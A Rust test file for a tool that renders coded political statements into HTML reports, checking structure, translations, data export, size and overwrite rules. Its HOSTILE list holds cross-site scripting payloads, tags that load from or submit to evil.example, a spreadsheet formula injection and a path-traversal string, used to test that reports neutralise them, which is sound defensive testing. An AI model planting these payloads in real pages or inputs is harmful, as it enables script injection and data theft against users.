//! The report: its structure, its size, and what texts of others may not do in it.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::Path;

use dom_smoothie::Readability;
use sha2::{Digest, Sha256};
use snapbox::{assert_data_eq, str};
use stance::chart::locale::ChartLanguage;
use stance::corpus::{Corpus, Selection};
use stance::page::shell::{SCRIPT, allowed};
use stance::page::statement::anchor;
use stance::report::{Format, report};
use stance::study::{Ask, Study};

use crate::support::Workdir;

/// The browser, led over the WebDriver protocol.
pub mod driver;
/// The report in a real browser: Chromium, led by its driver. `.ci/run` installs both and runs it.
mod browser;

const CODEBOOK: &str = r#"
title = "Trams @"
low = "no tram @"
high = "a tram @"
conventions = ["Read it twice. @"]

[coders]
anna = "the first @"
ben = "the second @"

[[issue]]
id = "tram"
name = "Tram @"
question = "Should the town build a tram? @"
conventions = ["A tram is a tram. @"]
[[issue.level]]
position = 1
words = "Build @"
definition = "Wants it. @"
[[issue.level]]
position = 0
words = "Undecided"
definition = "Says that nothing is decided."
[[issue.level]]
position = -1
words = "Do not build"
definition = "Rejects it."
"#;

const RULES: &str = r#"
[[rule]]
id = "build"
issue = "tram"
position = 1
any = ["build ...2 tram"]
"#;

/// Writes a corpus in which a text is in every field that people fill in: 12 statements of 2 speakers, by 2 coders and
/// a rule, with a dispute, a month, a paraphrase and a proposal that is not verified.
pub fn corpus_of(workdir: &Workdir, folder: &str, words: &str) {
    // JSON writes a string as TOML does.
    let quoted = serde_json::to_string(words).unwrap();
    let words_in_toml = quoted.trim_matches('"').replace('\u{7f}', "\\u007f");
    let codebook = CODEBOOK.replace('@', &words_in_toml);
    workdir.write(&format!("{folder}/codebook.toml"), codebook);
    workdir.write(&format!("{folder}/rules.toml"), RULES);
    let table = |name: &str, rows: &[Vec<String>]| {
        let mut csv = csv::Writer::from_writer(Vec::new());
        rows.iter().for_each(|row| csv.write_record(row).unwrap());
        workdir.write(&format!("{folder}/{name}"), csv.into_inner().unwrap());
    };
    let row = |cells: &[&str]| cells.iter().map(|cell| (*cell).to_owned()).collect::<Vec<String>>();
    let mut statements = vec![row(&[
        "id",
        "date",
        "date_precision",
        "speaker",
        "role",
        "venue",
        "kind",
        "text",
        "source_publisher",
        "source_title",
        "source_url",
        "notes",
        "verified",
    ])];
    let mut labels = [vec![row(&["statement_id", "issue", "position", "rationale"])], Vec::new()];
    labels[1] = labels[0].clone();
    for place in 0..12 {
        let id = format!("id-{place}{}", if place == 3 { words } else { "" });
        let speaker = if place % 2 == 0 { format!("Ada {words}") } else { "Ben Example".to_owned() };
        let (precision, day) = if place == 5 { ("month", 1) } else { ("day", 3 + place) };
        let kind = if place == 4 { "indirect" } else { "direct" };
        let text = format!("We build a tram, {place}. {words}");
        let address = if place == 6 { words.to_owned() } else { format!("https://a.example/{place}?q={words}") };
        let verified = if place == 7 { "no" } else { "yes" };
        let date = format!("2025-03-{day:02}");
        statements.push(row(&[
            &id, &date, precision, &speaker, words, words, kind, &text, words, words, &address, words, verified,
        ]));
        if place < 6 {
            let position = (place % 3 - 1).to_string();
            labels[0].push(row(&[&id, "tram", &position, words]));
            labels[1].push(row(&[&id, "tram", if place == 2 { "-1" } else { &position }, words]));
        }
    }
    table("statements.csv", &statements);
    table("labels/anna.csv", &labels[0]);
    table("labels/ben.csv", &labels[1]);
    table("events.csv", &[row(&["date", "label"]), row(&["2025-03-05", words])]);
}

/// Reads a corpus and writes its report.
fn written(folder: &Path, ask: Ask, format: &Format) -> String {
    let corpus = Corpus::load(folder).unwrap();
    let decisions = corpus.label_by_rules(|| {});
    let study = Study::of(&corpus, &decisions, ask, &|_, _| {});
    report(&study, &decisions, format).unwrap()
}

pub fn everything() -> Ask {
    Ask { selection: Selection { unverified: true, ..Selection::default() }, ..Ask::default() }
}

/// A document, read as a browser reads it: by the rules of the HTML standard.
fn read(html: &str) -> Readability {
    Readability::new(html, None, None).unwrap()
}

/// The headings, tables and charts of a document, in order.
fn outline(html: &str) -> String {
    let page = read(html);
    let mut out = String::new();
    for node in page.doc.select("h1, h2, h3, h4, nav, form, table, figure, details, a.button").nodes() {
        let name = node.node_name().unwrap().to_string();
        let count = |wanted: &str| {
            node.descendants().iter().filter(|inner| inner.node_name().is_some_and(|name| &*name == wanted)).count()
        };
        out += &match name.as_str() {
            "h1" | "h2" | "h3" | "h4" => format!("{name} {}\n", node.text()),
            "table" => format!("   table, {} rows\n", count("tr")),
            "figure" => format!("   chart, {} pictures, {} marks\n", count("svg"), count("a")),
            _ => format!("   {name}\n"),
        };
    }
    out
}

#[test]
fn the_finding_comes_first_and_every_part_has_its_heading() {
    let workdir = Workdir::new();
    corpus_of(&workdir, "c", "words");
    let html = written(&workdir.path().join("c"), Ask::default(), &Format::default());
    assert_data_eq!(
        outline(&html),
        str![[r#"
h1 Trams words
   nav
h2 What was found
   details
   table, 3 rows
h2 Charts
h3 Ada words
   chart, 2 pictures, 10 marks
h3 Ben Example
   chart, 2 pictures, 10 marks
h3 All speakers
   chart, 2 pictures, 20 marks
   chart, 2 pictures, 20 marks
h2 All statements
   a
   form
   table, 12 rows
h2 Agreement between coders
   table, 2 rows
h2 How the rules do
h3 On 12 statements that the author of the rules may have seen, which flatters the rules
   table, 2 rows
   details
   table, 2 rows
h2 Method
h3 Issues and levels
h4 Tram words
h4 Reading conventions
h2 What was left out
h2 Versions
   table, 7 rows

"#]]
    );
    let page = read(&html);
    assert_eq!(page.doc.select("html").attr("lang").as_deref(), Some("en"));
    assert_eq!(page.doc.select("main").length(), 1);
    // Each way leads to a part, and each mark to a statement.
    let ids: BTreeSet<String> =
        page.doc.select("[id]").nodes().iter().map(|node| node.attr_or("id", "").to_string()).collect();
    assert_eq!(ids.len(), page.doc.select("[id]").length(), "an id is there twice");
    for link in page.doc.select("a[href^='#']").nodes() {
        assert!(ids.contains(&link.attr_or("href", "")[1..]), "{:?}", link.attr("href"));
    }
    assert!(page.doc.select(".chart a[href^='#stance-']").length() > 20);
    // Whoever cannot see a picture gets its words, and each control has a label.
    for picture in page.doc.select("figure > svg").nodes() {
        let names = picture.attr_or("aria-labelledby", "");
        assert!(names.split(' ').count() == 2 && names.split(' ').all(|name| ids.contains(name)), "{names}");
    }
    for control in page.doc.select("input, select").nodes() {
        let label = format!("label[for='{}']", control.attr_or("id", ""));
        assert_eq!(page.doc.select(&label).length(), 1, "{label}");
    }
}

#[test]
fn headings_are_in_the_language_that_was_asked_for() {
    let workdir = Workdir::new();
    corpus_of(&workdir, "c", "words");
    let english = outline(&written(&workdir.path().join("c"), Ask::default(), &Format::default()));
    for (language, tag) in [(ChartLanguage::De, "de"), (ChartLanguage::Fr, "fr"), (ChartLanguage::Uk, "uk")] {
        let html = written(&workdir.path().join("c"), Ask::default(), &Format { language, ..Format::default() });
        let page = read(&html);
        assert_eq!(page.doc.select("html").attr("lang").as_deref(), Some(tag));
        let heads = |text: &str| -> Vec<String> {
            text.lines().filter(|line| line.starts_with("h2")).map(str::to_owned).collect()
        };
        let (ours, theirs) = (heads(&outline(&html)), heads(&english));
        assert_eq!(ours.len(), theirs.len());
        assert!(ours.iter().zip(&theirs).filter(|(a, b)| a == b).count() <= 1, "{ours:?}");
        // What stays English says so.
        for paragraph in page.doc.select("[lang=en]").nodes() {
            assert!(paragraph.text().is_ascii() || !paragraph.text().is_empty());
        }
        assert!(page.doc.select("[lang=en]").length() > 2);
    }
}

/// The content of an address, as a browser takes it out.
fn bytes_of(address: &str) -> Vec<u8> {
    let mut parts = address.split('%');
    let mut bytes = parts.next().unwrap().as_bytes().to_vec();
    for part in parts {
        bytes.push(u8::from_str_radix(&part[..2], 16).unwrap());
        bytes.extend(part[2..].bytes());
    }
    bytes
}

#[test]
fn the_data_can_be_taken_out_and_have_the_hash_that_the_report_prints() {
    let workdir = Workdir::new();
    corpus_of(&workdir, "c", "words, \"quoted\"\nand more");
    let html = written(&workdir.path().join("c"), everything(), &Format::default());
    let page = read(&html);
    let address = page.doc.select("a[download]").attr("href").unwrap();
    let data = bytes_of(address.strip_prefix("data:text/csv;charset=utf-8,").unwrap());
    let mut table = csv::Reader::from_reader(&data[..]);
    let header = table.headers().unwrap().clone();
    assert_eq!(header.iter().take(3).collect::<Vec<_>>(), ["number", "statement_id", "date"]);
    let ids: Vec<String> = table.records().map(|row| row.unwrap()[1].to_owned()).collect();
    // One is in dispute, so it is in the page without a position, and not in the data.
    assert_eq!((ids.len(), page.doc.select("table.statements tbody tr").length()), (11, 12));
    let hash: String = Sha256::digest(&data).iter().map(|byte| format!("{byte:02x}")).collect();
    assert!(page.doc.select("code").nodes().iter().any(|node| *node.text() == *hash));
}

#[test]
fn what_is_left_out_is_said() {
    let workdir = Workdir::new();
    corpus_of(&workdir, "c", "words");
    let said = |ask: Ask| -> String {
        read(&written(&workdir.path().join("c"), ask, &Format::default())).doc.select("#stance-left-out").text().into()
    };
    let text = said(Ask::default());
    for part in ["1 statement not yet checked", "1 statement without an exact day", "1 in conflict"] {
        assert!(text.contains(part), "{part}: {text}");
    }
    assert!(!said(everything()).contains("not yet checked"));
}

/// What someone may write who wants a page to do something, and what pages get wrong.
pub const HOSTILE: [&str; 50] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</desc></title></svg><img src=x onerror=alert(1)>",
    "</textarea></select></option><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "`onload=alert(1)`",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=x><button>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<!-- --!> <script>alert(1)</script> -->",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;amp;lt;b&gt; &notit; &#x0; &#xD800;",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://a.example",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://a.example/\" onclick=\"alert(1)",
    "\u{202e}gnp.exe \u{2066}\u{2067}\u{202b}left open",
    "\u{200f}\u{61c}עברית العربية <b>\u{202d}",
    "\u{200b}\u{200d}\u{2060}\u{feff}\u{fffe}\u{fdd0}",
    "\u{8}\u{1b}[2J\u{7f}\u{9b}31m",
    "../../../etc/passwd",
    "..\\..\\x.html",
    "%3Cscript%3Ealert(1)%3C/script%3E ${alert(1)} {{7*7}}",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "two\nlines\n\n<b>and\ta tab",
    "LONG",
];

/// The elements that a report is made of.
const ELEMENTS: &str = "html head meta title style body script a header main footer nav section article figure details \
                        summary div p ul li dl dt dd h1 h2 h3 h4 table thead tbody tr th td form label input select \
                        option optgroup button output time bdi q span code svg desc g rect circle path polygon text";

/// Checks that a page has nothing but what Stance writes: its elements, its one script, links to where they may lead.
fn sound(html: &str, scripts: usize) {
    let page = read(html);
    let known: BTreeSet<&str> = ELEMENTS.split_whitespace().collect();
    for node in page.doc.select("*").nodes() {
        let name = node.node_name().unwrap();
        assert!(known.contains(&*name), "<{name}> is not an element of a report");
        for attribute in node.attrs() {
            let (key, value) = (attribute.name.local.to_string(), attribute.value.to_string());
            assert!(!key.starts_with("on") && !["style", "src", "srcdoc", "action"].contains(&key.as_str()), "{key}");
            if key == "href" {
                let leads = ["#stance-", "#main", "https://", "http://", "data:text/csv;charset=utf-8,"];
                assert!(leads.iter().any(|to| value.starts_with(to)), "{value}");
            }
        }
    }
    let found = page.doc.select("script");
    assert_eq!(found.length(), scripts);
    assert!(found.nodes().iter().all(|script| *script.text() == *SCRIPT));
}

#[test]
fn nothing_in_a_corpus_does_anything_in_a_report() {
    let long = format!("<b>{}</b>{}", "x".repeat(6_000), " word".repeat(800));
    let mut refused = Vec::new();
    for (place, words) in HOSTILE.iter().enumerate() {
        let words = if *words == "LONG" { &long } else { *words };
        let workdir = Workdir::new();
        // A folder may have nearly any name.
        let folder = if place % 2 == 0 { "c".to_owned() } else { format!("c <b>'{place}\"&") };
        corpus_of(&workdir, &folder, words);
        let path = workdir.path().join(&folder);
        let (Some(corpus), _) = Corpus::read(&path).unwrap() else {
            refused.push(words);
            continue;
        };
        let decisions = corpus.label_by_rules(|| {});
        let study = Study::of(&corpus, &decisions, everything(), &|_, _| {});
        let html = report(&study, &decisions, &Format::default()).unwrap();
        sound(&html, 1);
        let page = read(&html);
        // Every statement is there, letter for letter.
        for (place, statement) in corpus.statements.rows.iter().enumerate() {
            let words = page.doc.select(&format!("#{} .said", anchor(place))).text();
            let expected = allowed(statement.text.replace("\r\n", "\n"));
            assert!(*words == *expected, "{words:?} is not {expected:?}");
        }
        if place % 5 == 0 {
            sound(&report(&study, &decisions, &Format { part: true, ..Format::default() }).unwrap(), 0);
        }
        // A long text is in the page a few times at most: in its row and in the data.
        let files = corpus.to_files();
        let bytes: usize = files.values().map(String::len).sum();
        assert!(html.len() < (1 << 20) + 4 * bytes, "{} bytes of {bytes}", html.len());
    }
    assert!(refused.len() <= 2, "{refused:?}");
}

/// Many statements of 5 speakers.
fn many(workdir: &Workdir, count: usize) {
    let codebook = CODEBOOK.replace(" @", "");
    workdir.write("c/codebook.toml", codebook);
    let (mut statements, mut labels) =
        ("id,date,speaker,text,source_publisher,source_url\n".to_owned(), "statement_id,issue,position\n".to_owned());
    let words = "These are the words that somebody said about the tram on that day, and they are as long as most are: \
                 about 200 characters, a sentence or two, with a clause and a half more than one needs.";
    for place in 0..count {
        let (day, speaker) = (1 + place % 28, place % 5);
        let address = format!("https://www.example.org/news/2025/03/{place}-words-about-the-tram-in-the-town");
        statements += &format!("id-{place},2025-03-{day:02},Speaker {speaker},\"{words}\",The Paper,{address}\n");
        labels += &format!("id-{place},tram,{}\n", (place * 7 % 3) as i32 - 1);
    }
    workdir.write("c/statements.csv", statements);
    workdir.write("c/labels/anna.csv", labels);
}

#[test]
fn a_report_is_smaller_than_a_megabyte_and_a_kilobyte_a_statement() {
    for count in [300, 1_600] {
        let workdir = Workdir::new();
        many(&workdir, count);
        let html = written(&workdir.path().join("c"), Ask::default(), &Format::default());
        assert!(html.len() < (1 << 20) + 1024 * count, "{count} statements: {} bytes", html.len());
        let page = read(&html);
        assert_eq!(page.doc.select("table.statements tbody tr").length(), count);
        // Too many to draw are counted, and the report says so.
        let left_out = page.doc.select("#stance-left-out").text();
        assert_eq!(left_out.contains("too many"), count > 1_000, "{left_out}");
    }
}

#[test]
fn the_same_corpus_gives_the_same_bytes() {
    let workdir = Workdir::new();
    corpus_of(&workdir, "c", "words");
    let path = workdir.path().join("c");
    let once = written(&path, Ask::default(), &Format::default());
    let threads = rayon::ThreadPoolBuilder::new().num_threads(1).build().unwrap();
    assert!(threads.install(|| written(&path, Ask::default(), &Format::default())) == once);
    // Sorted otherwise in a spreadsheet, only the anchors of statements differ.
    let text = fs::read_to_string(path.join("labels/anna.csv")).unwrap();
    let (header, rows) = text.split_once('\n').unwrap();
    let mut rows: Vec<&str> = rows.lines().collect();
    rows.reverse();
    fs::write(path.join("labels/anna.csv"), format!("{header}\n{}\n", rows.join("\n"))).unwrap();
    assert!(written(&path, Ask::default(), &Format::default()) == once);
}

#[test]
fn a_report_replaces_its_own_and_nothing_else() {
    let workdir = Workdir::new();
    corpus_of(&workdir, "c", "words");
    let report = ["report", "--corpus", "c", "--include-unverified"];
    let run = workdir.run(&report);
    assert_eq!((run.code, run.stdout.as_str(), run.stderr.as_str()), (0, "report.html\n", ""), "{}", run.stderr);
    let first = workdir.read("report.html");
    assert!(String::from_utf8_lossy(&first).starts_with("<!DOCTYPE html>"));
    // Again, and then as a part: both are Stance's own.
    for more in [&[][..], &["--embed"]] {
        assert_eq!(workdir.run(&[&report[..], more].concat()).code, 0);
    }
    let part = String::from_utf8(workdir.read("report.html")).unwrap();
    assert!(
        part.starts_with("<div class=\"stance\" lang=\"en\">")
            && !part.contains("<script")
            && !part.contains("prefers-color-scheme")
    );
    // A page that a person has changed is theirs.
    workdir.write("report.html", part.replace("Trams", "Our trams"));
    let run = workdir.run(&report);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("report.html") && run.stderr.contains("--force"), "{}", run.stderr);
    assert_eq!(workdir.run(&[&report[..], &["--force"]].concat()).code, 0);
    assert!(workdir.read("report.html") == first);
    // Never a file of a corpus, whatever is asked.
    let before = workdir.read("c/statements.csv");
    assert_eq!(workdir.run(&["report", "--corpus", "c", "-o", "c/statements.csv", "--force"]).code, 2);
    assert!(workdir.read("c/statements.csv") == before);
}

#[test]
fn a_report_of_nothing_is_refused() {
    let workdir = Workdir::new();
    corpus_of(&workdir, "c", "words");
    for (args, said) in [
        (&["--speaker", "Ben Exampel"][..], "did you mean"),
        (&["--issue", "trams"], "the codebook has"),
        (&["--from", "2031-01-01"], "no statement with a position"),
        (&["--from", "2025-03-10", "--to", "2025-03-01"], "swap them"),
    ] {
        let run = workdir.run(&[&["report", "--corpus", "c"], args].concat());
        assert_eq!((run.code, run.stdout.as_str()), (2, ""), "{args:?}");
        assert!(run.stderr.contains(said), "{args:?}: {}", run.stderr);
    }
    assert!(!workdir.path().join("report.html").exists());
}

#[test]
fn a_speaker_and_an_issue_choose_what_is_shown_and_no_verdict() {
    let workdir = Workdir::new();
    many(&workdir, 100);
    let path = workdir.path().join("c");
    let verdicts = |ask: Ask| -> BTreeMap<String, String> {
        let page = read(&written(&path, ask, &Format::default()));
        let articles = page.doc.select("article.verdict");
        articles.nodes().iter().map(|node| (node.text().chars().take(40).collect(), node.text().to_string())).collect()
    };
    let (all, one) = (
        verdicts(Ask::default()),
        verdicts(Ask {
            selection: Selection { speakers: vec!["Speaker 3".to_owned()], ..Selection::default() },
            ..Ask::default()
        }),
    );
    assert_eq!(one.len(), 1);
    for (head, text) in one {
        assert_eq!(all.get(&head), Some(&text));
    }
}
